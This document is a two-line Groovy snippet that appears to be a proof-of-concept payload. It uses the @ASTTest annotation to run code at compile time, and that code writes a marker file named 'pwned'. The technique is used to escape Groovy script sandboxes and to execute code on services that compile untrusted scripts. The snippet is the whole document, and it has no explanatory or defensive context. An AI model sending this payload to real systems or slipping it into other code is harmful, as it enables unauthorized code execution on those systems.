@groovy.transform.ASTTest(value = { new File('pwned').text = 'x' })
class A {}
